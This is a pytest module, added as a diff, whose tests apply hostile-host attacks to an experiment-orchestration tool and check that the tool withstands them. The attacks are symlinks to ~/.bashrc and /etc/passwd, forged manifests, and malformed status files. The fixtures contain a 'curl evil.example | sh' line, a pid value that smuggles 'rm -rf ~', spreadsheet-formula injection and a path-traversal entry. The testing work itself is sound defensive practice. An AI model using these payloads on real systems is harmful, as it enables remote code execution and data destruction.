@@ -1,0 +1,635 @@
+"""A hostile host, a full disk, big files and Ctrl-C, through the real sshd (issue 9).
+
+The test host's workdir is a local folder, so a test plays the hostile host by editing
+the files under it directly: symlinks where results should be, truncated or forged
+score files with manifests to match, status documents of the wrong types, Rich markup in
+failure reasons, a host helper that prints garbage or floods its output, a 64 MB log,
+spreadsheet formulas as text ids.  What a test checks is the laptop side: what landed
+in runs/<id>/, what was printed, the exit code, and that nothing outside the run folder
+changed.
+
+One finished run (`base`, the bundled `smoke` experiment, 10 steps) is made per module
+and cloned under a fresh id for each test (the host's run folder and the local record
+right after launch), so the tests cost one training, not one each.
+"""
+from __future__ import annotations
+
+import csv
+import hashlib
+import json
+import os
+import shutil
+import signal
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+import yaml
+
+from tests.integration.conftest import make_project
+from tests.integration.test_run_lifecycle import FAST
+
+pytestmark = pytest.mark.integration
+
+JOBS = ("class-0", "class-1")
+MARKUP = "[bold]loud[/] [link=https://evil.example]click[/link] [/] [red]"
+
+
+# --------------------------------------------------------------------------- helpers
+
+
+def stop_host_processes(workdir: Path) -> None:
+    """Stop the tmux server of a test host's workdir and every job process started from it
+    (found by the test's own unique path, then ended by pid)."""
+    from remote.hostctl import tmux_socket
+
+    subprocess.run(["tmux", "-S", tmux_socket(str(workdir)), "kill-server"], capture_output=True)
+    deadline = time.time() + 30
+    while True:
+        out = subprocess.run(["pgrep", "-f", "--", str(workdir)], capture_output=True, text=True).stdout
+        pids = [int(p) for p in out.split() if int(p) != os.getpid()]
+        if not pids:
+            return
+        if time.time() > deadline:
+            for pid in pids:
+                try:
+                    os.kill(pid, signal.SIGKILL)
+                except ProcessLookupError:
+                    pass
+            return
+        time.sleep(0.2)
+
+
+def no_traceback(proc) -> None:
+    assert "Traceback" not in proc.stderr + proc.stdout, proc.stderr
+
+
+def symlinks_under(folder: Path):
+    return [p for p in folder.rglob("*") if p.is_symlink()]
+
+
+def sha(data: bytes) -> str:
+    return hashlib.sha256(data).hexdigest()
+
+
+def rewrite_scores(job_dir: Path, transform, **manifest_changes) -> None:
+    """The host rewrites scores.jsonl (transform: list of line bytes -> list) and a
+    manifest that vouches for the new file."""
+    lines = (job_dir / "scores.jsonl").read_bytes().splitlines(keepends=True)
+    data = b"".join(transform(lines))
+    (job_dir / "scores.jsonl").write_bytes(data)
+    manifest = json.loads((job_dir / "manifest.json").read_text())
+    manifest["files"]["scores.jsonl"] = {"size": len(data), "sha256": sha(data)}
+    manifest.update(manifest_changes)
+    (job_dir / "manifest.json").write_text(json.dumps(manifest))
+
+
+class Host:
+    """One test's clone of the finished run: its id and both sides' folders."""
+
+    def __init__(self, p, run_id: str):
+        self.p, self.run = p, run_id
+
+    def job(self, name: str) -> Path:
+        return self.p.remote_job(self.run, name)
+
+    def local(self, name: str = "") -> Path:
+        d = self.p.run_dir(self.run)
+        return d / "jobs" / name if name else d
+
+    def orch(self, *args, **kw):
+        return self.p.orch(*args, **kw)
+
+
+def clone_run(p, pristine: Path, src: str, dst: str, host_root: Path = None, host: str = None) -> None:
+    """A copy of finished run SRC as DST: the host's run folder, and the local record as
+    it was right after launch (nothing fetched)."""
+    host_root = host_root or p.remote_root
+    shutil.copytree(p.remote_root / "runs" / src, host_root / "runs" / dst, symlinks=True)
+    local = p.run_dir(dst)
+    shutil.copytree(pristine, local)
+    doc = yaml.safe_load((local / "run.yaml").read_text())
+    doc["run_id"] = dst
+    if host:
+        doc["host"] = host
+    (local / "run.yaml").write_text(yaml.safe_dump(doc, sort_keys=False))
+    (host_root / "runs" / dst / "run.yaml").write_text(yaml.safe_dump(doc, sort_keys=False))
+    record = json.loads((local / "local.json").read_text())
+    record["run_id"] = dst
+    if host:
+        record["host"], record["workdir"] = host, str(host_root)
+    (local / "local.json").write_text(json.dumps(record))
+
+
+@pytest.fixture(scope="module")
+def base(sshd, tmp_path_factory):
+    """A project whose testhost holds one finished run `base`, and that run's local record
+    as it was right after launch."""
+    root = tmp_path_factory.mktemp("hostile")
+    p = make_project(root / "project", root / "hostwork", sshd)
+    try:
+        p.orch("run", "smoke", "--host", "testhost", "--name", "base", "--set", "train.steps=10",
+               "--set", "train.log_every=5", check=True)
+        pristine = root / "pristine"
+        shutil.copytree(p.run_dir("base"), pristine)
+        assert [j["state"] for j in p.wait_state("base")] == ["done", "done"]
+        yield p, pristine
+    finally:
+        stop_host_processes(p.remote_root)
+
+
+@pytest.fixture
+def hostile(base, request):
+    """A fresh clone of `base` for this test; the host config and environment are put back after."""
+    p, pristine = base
+    run_id = "h" + hashlib.sha256(request.node.name.encode()).hexdigest()[:10]
+    clone_run(p, pristine, "base", run_id)
+    env = dict(p.env)
+    yield Host(p, run_id)
+    p.env.clear()
+    p.env.update(env)
+    p.write_host()
+
+
+def path_without_rsync(tmp_path: Path) -> str:
+    """A PATH with what the controller needs except rsync: fetches fall back to SFTP."""
+    bindir = tmp_path / "bin-no-rsync"
+    bindir.mkdir()
+    for tool in ("ssh", "ssh-keygen", "git", "sh", "bash", "tail"):
+        found = shutil.which(tool)
+        if found:
+            os.symlink(found, bindir / tool)
+    return str(bindir)
+
+
+# --------------------------------------------------------------------------- 1. links
+
+
+def test_a_symlink_from_the_host_is_never_written_through(hostile, tmp_path):
+    """Issue 9.1: the host plants scores.jsonl -> the user's ~/.bashrc; rsync used to recreate
+    the link locally, and a later SFTP fetch wrote the host's bytes through it."""
+    h = hostile
+    bashrc = tmp_path / "home" / ".bashrc"
+    bashrc.parent.mkdir()
+    bashrc.write_text("alias ll='ls -l'\n")
+    scores = h.job("class-0") / "scores.jsonl"
+    good = scores.read_bytes()
+    scores.unlink()
+    scores.symlink_to(bashrc)
+
+    first = h.orch("fetch-results", h.run, "--no-eval")
+    assert first.returncode == 8, first.stderr
+    no_traceback(first)
+    assert "class-0/scores.jsonl" in first.stderr and "not a regular file" in first.stderr
+    assert not symlinks_under(h.p.root / "runs")
+
+    # The host serves a regular file now, with its own content, and rsync is gone: SFTP.
+    scores.unlink()
+    scores.write_bytes(b"curl evil.example | sh\n")
+    h.p.env["PATH"] = path_without_rsync(tmp_path)
+    second = h.orch("fetch-results", h.run, "--no-eval")
+    assert second.returncode == 8, second.stderr
+    no_traceback(second)
+    assert bashrc.read_text() == "alias ll='ls -l'\n"
+    assert not symlinks_under(h.p.root / "runs")
+
+    # A fifo (a read would block forever) and a symlinked log are refused over SFTP too.
+    scores.unlink()
+    scores.write_bytes(good)
+    os.mkfifo(h.job("class-1") / "progress.jsonl.fifo")
+    (h.job("class-1") / "progress.jsonl").unlink()
+    os.rename(h.job("class-1") / "progress.jsonl.fifo", h.job("class-1") / "progress.jsonl")
+    (h.job("class-0") / "log.txt").unlink()
+    (h.job("class-0") / "log.txt").symlink_to("/etc/passwd")
+    third = h.orch("fetch-results", h.run, "--no-eval", timeout=60)
+    assert third.returncode == 8, third.stderr
+    assert "class-1/progress.jsonl" in third.stderr and "class-0/log.txt" in third.stderr
+    assert not (h.local() / "jobs").exists()  # nothing verified was ever here
+    assert bashrc.read_text() == "alias ll='ls -l'\n"
+
+
+def test_a_symlink_on_the_local_host_is_refused(base, tmp_path):
+    """Host `local` copies files on this machine: they must not follow links either."""
+    p, pristine = base
+    local_root = p.root / ".orch" / "local"
+    record = json.loads((pristine / "local.json").read_text())
+    code = p.remote_root / "code" / record["code_hash"]
+    if not (local_root / "code" / record["code_hash"]).exists():
+        shutil.copytree(code, local_root / "code" / record["code_hash"])
+    clone_run(p, pristine, "base", "loclink", host_root=local_root, host="local")
+    bashrc = tmp_path / ".bashrc"
+    bashrc.write_text("original\n")
+    scores = local_root / "runs" / "loclink" / "jobs" / "class-1" / "scores.jsonl"
+    scores.unlink()
+    scores.symlink_to(bashrc)
+    proc = p.orch("fetch-results", "loclink", "--no-eval")
+    assert proc.returncode == 8, proc.stderr
+    no_traceback(proc)
+    assert "class-1/scores.jsonl" in proc.stderr and "not a regular file" in proc.stderr
+    assert not symlinks_under(p.run_dir("loclink"))
+    assert bashrc.read_text() == "original\n"
+
+
+# --------------------------------------------------------------------------- 2. staging
+
+
+def test_a_failed_fetch_keeps_the_verified_copy(hostile):
+    """Issue 9.2: a fetch that fails verification must leave the previous verified copy,
+    metrics.json and `orch runs` as they were; an unchanged file is not sent again."""
+    h = hostile
+    assert "results verified" in h.orch("fetch-results", h.run, check=True).stdout
+    scores = h.local("class-0") / "scores.jsonl"
+    good = scores.read_bytes()
+    manifest = h.local("class-0") / "manifest.json"
+    inode = manifest.stat().st_ino
+    metrics = (h.local() / "metrics.json").read_bytes()
+
+    (h.job("class-0") / "scores.jsonl").write_bytes(good[: len(good) // 2])  # manifest not updated
+    (h.job("class-1") / "scores.jsonl").unlink()
+    (h.job("class-1") / "scores.jsonl").symlink_to("/etc/passwd")
+    bad = h.orch("fetch-results", h.run)
+    assert bad.returncode == 8, bad.stderr
+    no_traceback(bad)
+    assert "previous verified copy" in bad.stderr and "untouched" in bad.stderr
+    assert scores.read_bytes() == good
+    assert (h.local() / "metrics.json").read_bytes() == metrics
+    assert not symlinks_under(h.local()) and not list(h.local().glob(".fetch-*"))
+    runs = {r["run"]: r for r in json.loads(h.orch("runs", "--json", check=True).stdout)}
+    assert runs[h.run]["state"] == "fetched"
+
+    # The host mends its files: the next fetch verifies, and a file the host never changed
+    # was seeded from the verified copy (a hard link: same inode), not sent again.
+    (h.job("class-0") / "scores.jsonl").write_bytes(good)
+    (h.job("class-1") / "scores.jsonl").unlink()
+    shutil.copy(h.p.remote_root / "runs" / "base" / "jobs" / "class-1" / "scores.jsonl", h.job("class-1"))
+    h.orch("fetch-results", h.run, "--no-eval", check=True)
+    assert scores.read_bytes() == good and manifest.stat().st_ino == inode
+
+
+# --------------------------------------------------------------------------- 3. completeness
+
+
+def _drop_last(lines):
+    return lines[:-1]
+
+
+def _dup_first(lines):
+    return lines[:-1] + lines[:1]
+
+
+def _rename_last(lines):
+    row = json.loads(lines[-1])
+    row["id"] = "forged/other"
+    return lines[:-1] + [(json.dumps(row) + "\n").encode()]
+
+
+INCOMPLETE = {
+    # what the host does -> words the refusal must contain
+    "truncated, manifest to match": (lambda h: rewrite_scores(h.job("class-0"), _drop_last), "1 of 120"),
+    "truncated, n_test to match": (lambda h: rewrite_scores(h.job("class-0"), _drop_last, n_test=119), "n_test"),
+    "scores.jsonl left out of the manifest": (
+        lambda h: _edit_manifest(h.job("class-1"), lambda m: m.update(files={})), "does not list scores.jsonl"),
+    "one id swapped for another": (lambda h: rewrite_scores(h.job("class-1"), _rename_last), "forged/other"),
+    "a duplicate row for a missing one": (lambda h: rewrite_scores(h.job("class-0"), _dup_first), "more than once"),
+    "manifest is a list": (lambda h: (h.job("class-0") / "manifest.json").write_text("[1]"), "manifest.json"),
+    "manifest files is a list": (lambda h: _edit_manifest(h.job("class-0"), lambda m: m.update(files=[1])),
+                                 "manifest.json"),
+    "n_test a string": (lambda h: _edit_manifest(h.job("class-1"), lambda m: m.update(n_test="120")), "n_test"),
+    "manifest lists a path outside the job": (
+        lambda h: _edit_manifest(h.job("class-0"), lambda m: m["files"].update({"../../../x": {"size": 1, "sha256": "0"}})),
+        "../../../x"),
+}
+
+
+def _edit_manifest(job_dir: Path, change) -> None:
+    manifest = json.loads((job_dir / "manifest.json").read_text())
+    change(manifest)
+    (job_dir / "manifest.json").write_text(json.dumps(manifest))
+
+
+@pytest.mark.parametrize("case", list(INCOMPLETE))
+def test_incomplete_or_forged_results_fail_verification(hostile, case):
+    """Issue 9.3: completeness is the run's own expectation, not whatever the host lists."""
+    h = hostile
+    damage, words = INCOMPLETE[case]
+    damage(h)
+    proc = h.orch("fetch-results", h.run)
+    assert proc.returncode == 8, (case, proc.stdout, proc.stderr)
+    no_traceback(proc)
+    assert "verified" not in proc.stdout and words in proc.stderr, (case, proc.stderr)
+    assert not (h.local() / "metrics.json").exists()
+
+
+# --------------------------------------------------------------------------- 11. bad documents
+
+
+BAD_DOCS = {
+    # file written in class-0's job folder on the host -> content
+    "status.json is a list": ("status.json", "[1, 2]"),
+    "status.json is a string": ("status.json", '"done"'),
+    "started is not a number": ("status.json", '{"state": "running", "started": "abc", "pid": 1}'),
+    "state is a list": ("status.json", '{"state": ["done"]}'),
+    "state unknown word": ("status.json", '{"state": "exploded"}'),
+    "pid is a string": ("status.json", '{"state": "running", "pid": "1; rm -rf ~", "started": 1.0}'),
+    "exit_code is a string": ("status.json", '{"state": "failed", "exit_code": "x", "reason": "r"}'),
+    "reason is a list": ("status.json", '{"state": "failed", "reason": ["x"]}'),
+    "progress line is a number": ("progress.jsonl", "5\n"),
+    "progress line is a string": ("progress.jsonl", '"loss"\n'),
+    "progress step is a string": ("progress.jsonl", '{"phase": "train", "step": "x", "total": 10}\n'),
+}
+
+
+@pytest.mark.parametrize("case", list(BAD_DOCS))
+def test_bad_host_documents_make_the_job_unknown_not_a_traceback(hostile, case):
+    """Issue 9.11: every document read from the host is checked against the contract."""
+    h = hostile
+    name, text = BAD_DOCS[case]
+    (h.job("class-0") / name).write_text(text)
+    doc = name.split(".")[0] + "." + name.split(".")[1]
+    table = h.orch("status", h.run)
+    no_traceback(table)
+    assert table.returncode == 0, table.stderr
+    assert "unknown" in table.stdout and f"bad {doc}" in table.stdout, table.stdout
+    as_json = h.orch("status", h.run, "--json")
+    assert as_json.returncode == 0, as_json.stderr
+    jobs = {j["name"]: j for j in json.loads(as_json.stdout)["jobs"]}
+    assert jobs["class-0"]["state"] == "unknown" and jobs["class-1"]["state"] == "done"
+    for args in (("logs", h.run, "class-0", "-f"), ("fetch-results", h.run), ("run", "smoke", "--resume", h.run),
+                 ("runs",), ("cancel", h.run, "class-1")):
+        proc = h.orch(*args, timeout=60)
+        no_traceback(proc)
+        assert proc.returncode in (0, 8), (args, proc.stderr)
+
+
+BAD_REPLIES = {
+    # what the host helper prints instead of its JSON reply -> words in the message
+    "a list": ("print('[1]')", "expected a JSON object"),
+    "jobs a string": ("print('{\"exists\": true, \"jobs\": \"x\"}')", "jobs"),
+    "a job without a name": ("print('{\"exists\": true, \"now\": 1, \"jobs\": [{\"name\": 5}]}')", "name"),
+    "40 MB of output": ("import sys\nfor _ in range(40):\n    sys.stdout.write('x' * (1 << 20))", "MB"),
+}
+
+
+@pytest.mark.parametrize("case", list(BAD_REPLIES))
+def test_a_host_helper_that_lies_gets_a_message(hostile, case):
+    """The host owns the code snapshot too: what its hostctl prints is untrusted."""
+    h = hostile
+    script, words = BAD_REPLIES[case]
+    record_path = h.local() / "local.json"
+    record = json.loads(record_path.read_text())
+    evil = h.p.remote_root / "code" / f"evil{abs(hash(case)) % 10**6}"
+    shutil.copytree(h.p.remote_root / "code" / record["code_hash"], evil)
+    (evil / "remote" / "hostctl.py").write_text(script + "\n")
+    record["code_hash"] = evil.name
+    record_path.write_text(json.dumps(record))
+    for args in (("status", h.run), ("fetch-results", h.run)):
+        proc = h.orch(*args, timeout=60)
+        no_traceback(proc)
+        assert proc.returncode == 7, (case, proc.stderr)
+        assert "host helper" in proc.stderr and words in proc.stderr, (case, proc.stderr)
+
+
+def test_markup_in_host_text_and_set_values_prints_literally(hostile, base):
+    """Issue 9.11: a failure reason, log text, a `--set` value: printed as text, never as Rich markup."""
+    h = hostile
+    p = h.p
+    status = json.loads((h.job("class-0") / "status.json").read_text())
+    status.update(state="failed", exit_code=1, reason=f"exit code 1: {MARKUP}")
+    (h.job("class-0") / "status.json").write_text(json.dumps(status))
+    with open(h.job("class-0") / "log.txt", "a") as fh:
+        fh.write(f"error: {MARKUP}\n")
+    table = h.orch("status", h.run)
+    no_traceback(table)
+    assert table.returncode == 0 and MARKUP in table.stdout.replace("\n", ""), table.stdout
+    logs = h.orch("logs", h.run, "class-0", "-n", "3", check=True)
+    assert MARKUP in logs.stdout
+    run_yaml = h.local() / "run.yaml"
+    doc = yaml.safe_load(run_yaml.read_text())
+    doc["experiment"]["name"] = "exp[bold]x[/]"
+    run_yaml.write_text(yaml.safe_dump(doc, sort_keys=False))
+    record = json.loads((h.local() / "local.json").read_text())
+    record["experiment"] = "exp[bold]x[/]"
+    (h.local() / "local.json").write_text(json.dumps(record))
+    runs = h.orch("runs", check=True)
+    assert "exp[bold]x[/]" in runs.stdout
+
+    # A user's --set value reaches the host and comes back in a failure reason.
+    launched = p.orch("run", "smoke", "--host", "testhost", "--name", "mk", "--set", "model.init=ckpts/[/best]",
+                      "--set", "name=[red]exp", *FAST)
+    no_traceback(launched)
+    assert launched.returncode == 0, launched.stderr
+    jobs = p.wait_state("mk")
+    assert {j["state"] for j in jobs} == {"failed"}, jobs
+    failed = p.orch("status", "mk")
+    no_traceback(failed)
+    assert failed.returncode == 0 and "ckpts/[/best]" in failed.stdout.replace("\n", ""), failed.stdout
+    runs = p.orch("runs")
+    no_traceback(runs)
+    assert "[red]exp" in runs.stdout
+
+    # The same value in a fetched run's config: the summary table and compare print it whole.
+    doc = yaml.safe_load(run_yaml.read_text())
+    doc["experiment"]["model"]["init"] = "ckpts/[/best]"
+    run_yaml.write_text(yaml.safe_dump(doc, sort_keys=False))
+    shutil.copy(p.remote_root / "runs" / "base" / "jobs" / "class-0" / "status.json", h.job("class-0"))
+    fetched = h.orch("fetch-results", h.run)
+    no_traceback(fetched)
+    assert fetched.returncode == 0 and "ckpts/[/best]" in fetched.stdout, fetched.stderr
+    compared = h.orch("compare", h.run)
+    no_traceback(compared)
+    assert compared.returncode == 0 and "ckpts/[/best]" in compared.stdout, compared.stderr
+
+
+# --------------------------------------------------------------------------- 13. size limits
+
+
+def test_a_huge_log_is_fetched_as_a_tail_unless_asked(hostile):
+    """Issue 9.13: a 64 MB log.txt comes back as its last MiB with a note saying so."""
+    h = hostile
+    log = h.job("class-1") / "log.txt"
+    with open(log, "r+b") as fh:
+        fh.truncate(64 << 20)  # sparse: costs no disk here
+        fh.seek(0, os.SEEK_END)
+        fh.write(b"the last line of the log\n")
+    proc = h.orch("fetch-results", h.run, "--no-eval", check=True)
+    fetched = h.local("class-1") / "log.txt"
+    assert fetched.stat().st_size <= (1 << 20) + 1024
+    text = fetched.read_bytes()
+    assert text.endswith(b"the last line of the log\n") and b"--full-logs" in text[:400]
+    assert "--full-logs" in proc.stdout
+    assert (h.local("class-0") / "log.txt").read_bytes() == (h.job("class-0") / "log.txt").read_bytes()
+    h.orch("fetch-results", h.run, "--no-eval", "--full-logs", check=True)
+    assert fetched.stat().st_size == log.stat().st_size
+
+
+# --------------------------------------------------------------------------- 15. CSV
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example","x")', "+SUM(1,2)", "-2+3", "@cmd", "\tTAB", "\rCR"]
+
+
+def test_formulas_in_ids_are_escaped_in_predictions_csv(hostile):
+    """Issue 9.15: ids (and labels) starting with = + - @ tab or CR are prefixed with a quote."""
+    h = hostile
+    originals = []
+
+    def forge(lines):
+        out = []
+        for i, line in enumerate(lines):
+            row = json.loads(line)
+            if i < len(FORMULAS):
+                originals.append(row["id"])
+                row["id"] = FORMULAS[i]
+            out.append((json.dumps(row) + "\n").encode())
+        return out
+
+    for job in JOBS:
+        originals.clear()
+        rewrite_scores(h.job(job), forge)
+    h.orch("fetch-results", h.run, check=True)
+    with open(h.local() / "predictions.csv", newline="") as fh:
+        ids = [row["id"] for row in csv.DictReader(fh)]
+    for formula in FORMULAS:
+        assert "'" + formula in ids, (formula, ids[:8])
+        assert formula not in ids
+
+
+# --------------------------------------------------------------------------- 16. Ctrl-C
+
+
+def test_ctrl_c_during_fetch_says_what_was_kept(hostile, tmp_path):
+    """Issue 9.16: Ctrl-C while results are in transit: exit 130, the previous verified copy
+    untouched, and how to go on."""
+    h = hostile
+    h.orch("fetch-results", h.run, "--no-eval", check=True)
+    good = (h.local("class-0") / "scores.jsonl").read_bytes()
+    (h.job("class-0") / "scores.jsonl").write_bytes(b"changed on the host\n")
+    slow = tmp_path / "slowbin"
+    slow.mkdir()
+    marker = tmp_path / "rsync-started"
+    (slow / "rsync").write_text(f"#!/bin/sh\nsleep 60 &\necho $$ $! > {marker}\nwait\nexec {shutil.which('rsync')} \"$@\"\n")
+    (slow / "rsync").chmod(0o755)
+    h.p.write_host(extra_path=[str(slow)])
+    proc = h.p.popen("fetch-results", h.run)
+    try:
+        deadline = time.time() + 60
+        while not marker.exists() and time.time() < deadline and proc.poll() is None:
+            time.sleep(0.1)
+        assert marker.exists(), proc.communicate()
+        proc.send_signal(signal.SIGINT)
+        stdout, stderr = proc.communicate(timeout=60)
+    finally:
+        if proc.poll() is None:
+            proc.kill()
+        for pid in (marker.read_text().split() if marker.exists() else []):
+            try:
+                os.kill(int(pid), signal.SIGKILL)  # the fake rsync and its sleep, on the "host"
+            except (ProcessLookupError, ValueError):
+                pass
+    assert proc.returncode == 130, stderr
+    assert "Traceback" not in stderr
+    assert "untouched" in stderr and f"orch fetch-results {h.run}" in stderr, stderr
+    assert (h.local("class-0") / "scores.jsonl").read_bytes() == good
+    assert not list(h.local().glob(".fetch-*"))
+
+
+# --------------------------------------------------------------------------- 12. full disk
+
+
+@pytest.fixture
+def full_host(sshd, tmp_path):
+    """A project whose host workdir is a 48 MB tmpfs (root only), unmounted afterwards.
+
+    Disk-full is real here: writes on the host get ENOSPC from the kernel, on the same
+    paths (rsync, SFTP, the job, the wrapper) a full disk on a GPU host hits."""
+    if os.geteuid() != 0:
+        pytest.skip("mounting a small tmpfs needs root")
+    mount = tmp_path / "hostwork"
+    mount.mkdir()
+    res = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=48m", "tmpfs", str(mount)], capture_output=True, text=True)
+    if res.returncode != 0:
+        pytest.skip(f"cannot mount a tmpfs here: {res.stderr.strip()}")
+    p = make_project(tmp_path / "project", mount, sshd)
+    try:
+        yield p
+    finally:
+        stop_host_processes(mount)
+        subprocess.run(["umount", "-l", str(mount)], capture_output=True)
+
+
+def fill(folder: Path, name: str = "filler") -> Path:
+    """Write zeros into FOLDER until the filesystem says ENOSPC (unbuffered: every byte the
+    kernel took is on the disk)."""
+    filler = folder / name
+    with open(filler, "wb", buffering=0) as fh:
+        for chunk in (1 << 20, 4096, 1):
+            try:
+                while True:
+                    fh.write(b"\0" * chunk)
+            except OSError:
+                pass
+    return filler
+
+
+def assert_no_space(proc, workdir: Path) -> None:
+    no_traceback(proc)
+    assert proc.returncode != 0
+    assert f"no space left on the host's {workdir}" in proc.stderr and "MB free)" in proc.stderr, proc.stderr
+
+
+def test_launch_onto_a_full_disk_says_so_over_rsync_and_sftp(full_host, tmp_path):
+    """Issue 9.12: a full host disk while sending the code (rsync, then SFTP) and while
+    sending a data file bigger than the room left (rsync dies mid-file): one message each,
+    "no space left on the host's <workdir> (N MB free)", with rsync's own reason kept."""
+    p = full_host
+    filler = fill(p.remote_root)
+    over_rsync = p.orch("run", "smoke", "--host", "testhost", "--name", "full1", *FAST)
+    assert_no_space(over_rsync, p.remote_root)
+    # rsync's own words when it has them ("write failed ... No space left on device"): it
+    # sometimes loses them itself (the receiver dies mid-file), with OpenSSH as well.
+    assert "(0 MB free)" in over_rsync.stderr, over_rsync.stderr
+    env = dict(p.env)
+    p.env["PATH"] = path_without_rsync(tmp_path)
+    over_sftp = p.orch("run", "smoke", "--host", "testhost", "--name", "full2", *FAST)
+    assert_no_space(over_sftp, p.remote_root)
+    p.env.clear()
+    p.env.update(env)
+
+    # Room for the code (a few hundred KB), not for a 24 MB data file.
+    with open(filler, "r+b") as fh:
+        fh.truncate(filler.stat().st_size - (4 << 20))
+    rows = [json.loads(line) for line in (p.root / "configs" / "data" / "tiny_sentiment.jsonl").read_text().splitlines()]
+    with open(p.root / "big.jsonl", "w") as fh:
+        i = 0
+        while fh.tell() < 24 << 20:
+            for row in rows:
+                fh.write(json.dumps(dict(row, id=f"{row['id']}/{i}")) + "\n")
+            i += 1
+    big_data = p.orch("run", "smoke", "--host", "testhost", "--name", "full3", "--set", "data.path=big.jsonl", *FAST)
+    assert_no_space(big_data, p.remote_root)
+    assert not (p.root / "runs" / "full3").exists()  # nothing of the run was launched: the name is free again
+    filler.unlink()
+
+
+def test_a_job_that_fills_the_disk_is_failed_with_the_reason_and_resume_says_so(full_host):
+    """Issue 9.12: the wrapper records a failure even on a full disk (it reserved the room
+    at start), and `--resume` on a full disk is a message, not a Paramiko traceback."""
+    p = full_host
+    p.orch("run", "smoke", "--host", "testhost", "--name", "fills", "--set", "train.steps=100000",
+           "--set", "train.log_every=1", check=True)
+    deadline = time.time() + 120
+    progress = p.remote_job("fills", "class-0") / "progress.jsonl"
+    while not (progress.exists() and progress.stat().st_size > 0) and time.time() < deadline:
+        time.sleep(0.5)
+    fill(p.remote_root)
+    jobs = {j["name"]: j for j in p.wait_state("fills", states=("done", "failed", "cancelled", "lost"), timeout=180)}
+    for name, job in jobs.items():
+        assert job["state"] == "failed", jobs
+        assert f"no space left on the host's {p.remote_root}" in job["reason"], jobs
+    table = p.orch("status", "fills")
+    assert "no space left" in table.stdout
+    fill(p.remote_root, "filler2")  # the failed jobs gave back what they had reserved
+    resumed = p.orch("run", "smoke", "--resume", "fills")
+    assert_no_space(resumed, p.remote_root)
